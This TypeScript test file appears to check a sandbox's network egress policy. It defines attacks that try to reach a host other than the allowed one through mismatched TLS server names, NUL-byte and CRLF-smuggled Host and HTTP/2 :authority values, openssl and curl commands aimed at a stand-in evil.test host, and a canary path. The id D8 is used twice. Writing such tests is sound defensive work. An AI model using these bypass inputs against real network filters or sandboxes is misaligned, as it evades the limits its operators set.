/** D: TLS and HTTP/2 that name another host than the one that policy allowed. [req: escape:network] */
import { type Attack, describeAttacks } from './attack.ts';
import type { Expected } from './expected.ts';
import { allowed, denied, farOf, python, requested, usual } from './far.ts';
import type { World } from './world.ts';

const curl = '/usr/bin/curl';
const openssl = '/usr/bin/openssl';
const refused = (call: string, times?: number): Expected => ({
  kind: 'refusal',
  call,
  destination: { host: allowed },
  ...(times === undefined ? {} : { times }),
});
const fine = (world: World): string => {
  const port = farOf(world).outside.ports.tls;
  return `attempt("fine", say_secured, "${allowed}", ${port}, "${allowed}", "GET /fine HTTP/1.0\\r\\nHost: ${allowed}:${port}\\r\\n\\r\\n")\n`;
};
/** Nothing at all may reach the far side of a connection that names another host. */
const heardAny = async (world: World): Promise<boolean> =>
  farOf(world).sink.heard.some((text) => text !== '') || (await requested(world));

const attacks: readonly Attack[] = [
  {
    ...usual,
    id: 'D3',
    title: 'NUL and other bytes in the server name of TLS, in Host and in :authority',
    policy: 'requests',
    won: heardAny,
    command: (world) => {
      const { outside, sink } = farOf(world);
      return python(`${fine(world)}
for name in (b"evil.test\\0.${allowed}", b"${allowed}\\0", b"${allowed}\\0.evil.test", b"\\0", b"", b"${allowed} ", b"evil.test#${allowed}", b"${allowed}\\r\\nx"):
    attempt(("hello", name), say, "${allowed}", ${sink.port}, hello(name))
for host in ("evil.test\\0.${allowed}", "${allowed}:${outside.ports.tls}\\0", "evil.test@${allowed}", "${allowed}, evil.test"):
    attempt(("host", host), say_secured, "${allowed}", ${outside.ports.tls}, "${allowed}", "GET /${world.canary} HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n")
    with secured("${allowed}", ${outside.ports.tls}, "${allowed}", ["h2"]) as s:
        s.sendall(PREFACE + request2(1, (":method", "GET"), (":scheme", "https"), (":path", "/${world.canary}"), (":authority", host)))
        s.settimeout(1); attempt("h2", all_of, s)`);
    },
    record: () => [refused('uninspectable'), refused('malformed_request')],
  },
  {
    ...usual,
    id: 'D7',
    title: 'TLS whose server name is not the allowed host: openssl, curl, raw, none, in pieces',
    needs: [curl, openssl],
    won: heardAny,
    command: (world) => {
      const { outside, sink } = farOf(world);
      const connect = `-connect ${allowed}:${sink.port}`;
      const raw = python(`
for size in (None, 1, 40):
    attempt("raw", say, "${allowed}", ${sink.port}, hello(b"${denied}", size))
attempt("no name", say, "${allowed}", ${sink.port}, hello(b"")[:0] or b"\\x16\\3\\1\\0\\x2f\\1\\0\\0\\x2b\\3\\3" + bytes(32) + b"\\0\\0\\2\\x13\\1\\1\\0")`);
      return [
        '/bin/sh',
        '-c',
        `${curl} -sk --max-time 5 https://${allowed}:${outside.ports.tls}/fine; echo GET /${world.canary} | timeout 5 ${openssl} s_client -quiet ${connect} -servername ${denied}; echo GET /${world.canary} | timeout 5 ${openssl} s_client -quiet ${connect} -noservername; ${curl} -sk --max-time 5 --connect-to ${denied}:443:${allowed}:${sink.port} https://${denied}/${world.canary}; "$@"`,
        'sh',
        ...raw,
      ];
    },
    record: () => [
      { ...refused('host_mismatch', 1), by: openssl },
      { ...refused('no_name', 1), by: openssl },
      { ...refused('host_mismatch', 1), by: curl },
      { ...refused('host_mismatch', 3), by: '/usr/bin/python3.11' },
    ],
  },
  {
    ...usual,
    id: 'D8',
    title: 'allowed server name, another host in the request: HTTP/1.1 and HTTP/2',
    policy: 'requests',
    needs: [curl],
    won: requested,
    command: (world) => {
      const at = `https://${allowed}:${farOf(world).outside.ports.tls}`;
      const line = `${curl} -sk --max-time 5`;
      return [
        '/bin/sh',
        '-c',
        `${line} ${at}/fine; for v in --http1.1 --http2; do for h in ${denied} ${denied}:443 ${allowed}.${denied} ${allowed}:1; do ${line} $v -H "Host: $h" ${at}/${world.canary}; done; done`,
      ];
    },
    record: () => [{ ...refused('host_mismatch', 8), by: curl }],
  },
  {
    ...usual,
    id: 'D8',
    title: 'HTTP/2 whose :authority, Host and further streams do not agree',
    policy: 'requests',
    won: requested,
    command: (world) => {
      const { tls } = farOf(world).outside.ports;
      return python(`${fine(world)}
at = "${allowed}:${tls}"
usual = (":method", "GET"), (":scheme", "https"), (":path", "/${world.canary}")
bad = [
    [*usual, (":authority", "${denied}")],
    [*usual, (":authority", at), ("host", "${denied}")],
    [*usual, ("host", "${denied}")],
    [*usual, (":authority", at), (":authority", "${denied}")],
    [*usual, (":authority", at + "\\0")],
    [*usual[:2], (":path", "https://${denied}/${world.canary}"), (":authority", at)],
    [(":method", "CONNECT"), (":authority", "${denied}:443")],
    [usual[0], (":scheme", "http"), usual[2], (":authority", "${denied}")],
    [*usual[:2], (":path", "/plain"), (":authority", at), ("x", "a\\r\\nhost: ${denied}\\r\\ny: ${world.canary}")],
]
def two(headers):
    with secured("${allowed}", ${tls}, "${allowed}", ["h2"]) as s:
        s.settimeout(0.5)
        s.sendall(PREFACE + request2(1, usual[0], usual[1], (":path", "/first"), (":authority", at)) + request2(3, *headers))
        return all_of(s)
threads = [threading.Thread(target=attempt, args=(one, two, one)) for one in bad]
for one in threads: one.start()
for one in threads: one.join()`);
    },
    record: () => [refused('host_mismatch'), refused('malformed_request'), refused('refused_upgrade')],
  },
];

describeAttacks('network-tls', [], attacks);
